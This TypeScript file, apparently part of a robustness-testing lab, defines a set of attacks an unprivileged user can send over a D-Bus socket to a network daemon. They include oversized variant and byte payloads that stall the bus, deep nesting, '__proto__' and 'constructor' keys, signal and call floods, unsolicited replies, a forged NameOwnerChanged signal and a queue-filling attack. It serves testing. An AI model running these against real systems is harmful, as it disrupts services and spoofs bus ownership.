import { setTimeout as wait } from 'node:timers/promises';
import { connectRaw, padded, rawMessage, type RawBus, signature, text, uint32 } from '../lab/bus-clients/raw-bus.js';

/** What an attacker knows of the daemon. */
export interface Victim {
  /** path of the bus's socket */
  readonly bus: string;
  /** the daemon's unique names */
  readonly names: readonly string[];
}

/** What a user with no rights at all does to the daemon. */
export interface Attack {
  /** Gets ready; each call of what it gives is one round. */
  readonly begin: (victim: Victim) => Promise<() => Promise<void>>;
  /** between two rounds, in milliseconds */
  readonly pause: number;
  /** It takes others with it that nobody protects, the bus say: not at once with other attacks. */
  readonly isAlone?: true;
}

const aSignal = { type: 'signal', path: '/', interface: 'org.example.Hostile', member: 'Hello' } as const;
const aCall = { ...aSignal, type: 'call', serial: 7 } as const;
const link = { ...aSignal, path: '/org/freedesktop/network1/link/_31', interface: 'org.freedesktop.DBus.Properties' };
const MB = 1 << 20;

/** Sends the same messages to every connection of the daemon, and waits for the bus to have read them. */
const onBus = (
  messages: (destination: string, bus: RawBus) => readonly Buffer[],
  { pause = 100, ...rest }: Partial<Attack> = {},
): Attack => ({
  pause,
  ...rest,
  begin: async victim => {
    const bus = await connectRaw(victim.bus);
    const all = Buffer.concat(victim.names.flatMap(name => messages(name, bus)));
    return async () => {
      await bus.send(all);
      await bus.settled();
    };
  },
});

/** `av` of so many bytes, each element four: a byte. */
const variants = (bytes: number): Buffer => Buffer.concat([uint32(bytes), Buffer.alloc(bytes, '\x01y\0\x07')]);
/** A variant in a variant …, as deep as the bus allows. */
const deep = Buffer.concat([...Array<Buffer>(60).fill(signature('v')), signature('y'), Buffer.from([7])]);
const dictionary = (key: string): Buffer => {
  const entry = Buffer.concat([text(key), signature('s')]);
  const entries = Buffer.concat([padded(entry, 4), text('routable')]);
  return Buffer.concat([uint32(entries.length), Buffer.alloc(4), entries]);
};

/** All that is known to have hurt, and its like. */
export const attacks = {
  'a descriptor that is not attached': onBus(destination => [
    rawMessage({ ...aSignal, destination, signature: 'h' }, uint32(0)),
    rawMessage({ ...aSignal, destination, signature: 'v' }, Buffer.concat([padded(signature('h'), 4), uint32(0)])),
    rawMessage({ ...aCall, destination, signature: 'h' }, uint32(9)),
  ]),
  // dbus-daemon looks at each variant: it serves nobody for 0.3 s then, and for 1.4 s with 31 MB
  'variants of 8 MB': onBus(
    destination => [rawMessage({ ...aSignal, destination, signature: 'av' }, variants(8 * MB))],
    { pause: 3000 },
  ),
  'variants of 31 MB': onBus(
    destination => [rawMessage({ ...aSignal, destination, signature: 'av' }, variants(31 * MB))],
    { isAlone: true },
  ),
  'bytes of 31 MB': onBus(
    destination => [
      rawMessage({ ...aSignal, destination, signature: 'ay' }, Buffer.concat([uint32(31 * MB), Buffer.alloc(31 * MB)])),
    ],
    { pause: 1000 },
  ),
  'a call with variants': onBus(destination => [rawMessage({ ...aCall, destination, signature: 'av' }, variants(MB))], {
    pause: 1000,
  }),
  'a path of 1 MB': onBus(destination => [rawMessage({ ...aSignal, destination, path: `/${'a'.repeat(MB)}` })]),
  'depth, and keys that objects have': onBus(destination => [
    rawMessage({ ...aSignal, destination, signature: 'v' }, deep),
    rawMessage({ ...aSignal, destination, signature: 'a{sv}' }, dictionary('__proto__')),
    rawMessage({ ...aSignal, destination, signature: 'a{sv}' }, dictionary('constructor')),
  ]),
  'a thousand signals': onBus(destination =>
    Array<Buffer>(1000).fill(rawMessage({ ...link, member: 'PropertiesChanged', destination })),
  ),
  'a hundred calls': onBus(destination =>
    ['Introspectable', 'Properties', 'Peer'].flatMap(of =>
      Array<Buffer>(33).fill(
        rawMessage({ ...aCall, flags: 1, interface: `org.freedesktop.DBus.${of}`, member: 'GetAll', destination }),
      ),
    ),
  ),
  'answers that nobody asked for': onBus(destination =>
    // Among them are those that are awaited at this moment: the bus knows whom it was who was asked.
    Array.from({ length: 500 }, (_, n) => n + 1).flatMap(replySerial => [
      rawMessage({ type: 'return', replySerial, destination, signature: 'av' }, variants(100)),
      rawMessage({ type: 'error', replySerial, destination, errorName: 'org.example.Error' }),
    ]),
  ),
  'a change of owner': onBus((destination, { name }) => [
    rawMessage(
      {
        ...aSignal,
        path: '/org/freedesktop/DBus',
        interface: 'org.freedesktop.DBus',
        member: 'NameOwnerChanged',
        sender: 'org.freedesktop.DBus',
        destination,
        signature: 'sss',
      },
      Buffer.concat([padded(text('org.freedesktop.network1'), 4), padded(text(''), 4), text(name)]),
    ),
  ]),
  // The bus keeps 127 MB for who does not read; it reads no more of a sender with so much under way, but of the next.
  'a full queue': {
    pause: 100,
    isAlone: true,
    begin: async ({ bus: path, names }) => {
      const [first, second] = [await connectRaw(path), await connectRaw(path)];
      const filling = (destination: string, bytes: number): Buffer =>
        rawMessage({ ...aSignal, destination, signature: 'ay' }, Buffer.concat([uint32(bytes), Buffer.alloc(bytes)]));
      return async () => {
        for (const destination of names) {
          let isTaken = true;
          for (const bytes of [12 * MB, ...Array<number>(200).fill(MB)])
            if (isTaken)
              isTaken = await Promise.race([
                first.send(filling(destination, bytes)).then(() => true),
                wait(2000).then(() => false),
              ]);
          for (let n = 0; n < 16; n += 1) await second.send(filling(destination, MB));
          await second.settled();
        }
      };
    },
  },
} satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;
